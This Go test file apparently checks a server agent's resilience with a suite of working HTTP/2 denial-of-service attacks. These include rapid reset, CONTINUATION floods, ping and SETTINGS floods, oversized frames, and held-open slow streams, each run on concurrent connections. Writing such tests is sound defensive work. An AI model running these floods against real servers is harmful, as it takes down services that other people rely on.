package attack_test

import (
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// maxWindow is the largest window of HTTP/2.
const maxWindow = 1<<31 - 1

// grpcHeaders are those of a call of gRPC.
var grpcHeaders = []string{"content-type", "application/grpc", "te", "trailers"}

// frameAttacks are attacks on any server of HTTP/2. path is one that it serves.
func frameAttacks(path string) []attack {
	method, headers := "GET", []string(nil)
	if strings.HasPrefix(path, "/envoy") {
		method, headers = "POST", grpcHeaders
	}
	return []attack{
		{name: "header table sizes", run: spin(false, func(c *wire, n int) error {
			if n == 0 {
				if err := c.WriteWindowUpdate(0, maxWindow-65535); err != nil { // so that the agent can answer
					return err
				}
			}
			if err := c.turn(); err != nil {
				return err
			}
			if _, err := c.request(method, path, true, append(headers, "accept", fmt.Sprint("a/", n))...); err != nil {
				return err
			}
			return c.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(n%2) * 4096})
		}), long: 10}, // Go up to 1.26.8 dies of it within seconds
		{name: "settings", run: spin(true, func(c *wire, n int) error {
			return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n % 1000)})
		})},
		{name: "pings", run: spin(true, func(c *wire, n int) error {
			var data [8]byte
			binary.BigEndian.PutUint32(data[:], uint32(n))
			return c.WritePing(false, data)
		})},
		{name: "rapid reset", run: spin(false, func(c *wire, _ int) error {
			id, err := c.request(method, path, false, headers...)
			if err != nil {
				return err
			}
			return c.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{name: "streams that are reset for a fault", run: spin(true, func(c *wire, _ int) error {
			id, err := c.request(method, path, false, headers...)
			if err != nil {
				return err
			}
			return c.WriteWindowUpdate(id, 0)
		})},
		{name: "continuations", run: spin(false, func(c *wire, n int) error {
			if n%1000 == 0 {
				c.block.Reset()
				return c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: []byte{0x82}})
			}
			return c.WriteContinuation(c.next, false, []byte("\x00\x01a\x01b"))
		})},
		{name: "frames without content", run: spin(false, func(c *wire, n int) error {
			if n == 0 {
				_, err := c.request("POST", "/dns-query", false, "content-type", "application/dns-message")
				return err
			}
			return c.WriteData(1, false, nil)
		})},
		{name: "headers that are too large", run: spin(false, func(c *wire, _ int) error {
			_, err := c.request(method, path, true, append(headers, "x-a", strings.Repeat("a", 15_000))...)
			return err
		})},
		{name: "priorities", run: spin(false, func(c *wire, n int) error {
			return c.WritePriority(uint32(n%10_000)*2+1, http2.PriorityParam{StreamDep: uint32(n%5000) * 2})
		})},
		{name: "unknown frames", run: spin(false, func(c *wire, n int) error {
			return c.WriteRawFrame(http2.FrameType(32+n%100), 0, uint32(n), make([]byte, 1000))
		})},
		{name: "frames that are too large", run: spin(false, func(c *wire, _ int) error {
			return c.WriteData(1, false, make([]byte, 1<<20))
		})},
	}
}

// spin returns an attack that calls step again and again on some connections, each anew when the
// agent closes it, until the time is over, and once at least: a handshake may take all of the time.
func spin(unread bool, step func(c *wire, n int) error) func(context.Context, *target) error {
	return func(ctx context.Context, t *target) error {
		var spinning sync.WaitGroup
		for range 4 {
			spinning.Go(func() {
				for first := true; first || ctx.Err() == nil; first = false {
					c, err := t.open(unread)
					if err != nil {
						return // the attack is repelled; survives sees whether it was carried out, and whether the agent has ended
					}
					late := time.AfterFunc(answerTime, func() { abandon(c.Conn) })
					if err = step(c, 0); err == nil {
						t.did.Add(1)
					}
					late.Stop()
					stop := context.AfterFunc(ctx, func() { abandon(c.Conn) })
					for n := 1; err == nil; n++ {
						if err = step(c, n); err == nil {
							t.did.Add(1)
						}
					}
					stop()
					abandon(c.Conn)
				}
			})
		}
		spinning.Wait()
		return nil
	}
}

// streamAttacks keep streams of HTTP/2 open.
var streamAttacks = []attack{
	{name: "unfinished bodies", run: func(ctx context.Context, t *target) error {
		return t.hold(ctx, 8, 250, func(c *wire, _ int) error {
			return c.unfinished("/dns-query", "application/dns-message", 65_000)
		})
	}},
	{name: "unfinished large bodies", run: func(ctx context.Context, t *target) error {
		return t.hold(ctx, 8, 250, func(c *wire, _ int) error {
			return c.unfinished("/v3/discovery:endpoints", "application/json", 1<<20)
		})
	}},
	{name: "unfinished bodies on many connections", run: func(ctx context.Context, t *target) error {
		return t.hold(ctx, t.many/4, 32, func(c *wire, _ int) error {
			return c.unfinished("/v3/discovery:endpoints", "application/json", 20_000)
		})
	}},
	{name: "blocking queries with bodies", run: func(ctx context.Context, t *target) error {
		return t.hold(ctx, t.many/4, 32, func(c *wire, n int) error {
			id, err := c.request("GET", fmt.Sprintf("/v1/lookup/n%d?index=1&wait=10m", n), false)
			if err != nil {
				return err
			}
			c.pending[id] = zeros[:16<<10]
			return nil
		})
	}},
	{name: "readers that do not read", run: func(ctx context.Context, t *target) error {
		return t.hold(ctx, t.many/4, 32, func(c *wire, _ int) error {
			_, err := c.request("GET", "/v1/services/web", true)
			return err
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}},
	{name: "readers of small answers that do not read", run: func(ctx context.Context, t *target) error {
		return t.hold(ctx, t.many/4, 32, func(c *wire, _ int) error {
			_, err := c.request("GET", "/v1/lookup/few", true)
			return err
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}},
}
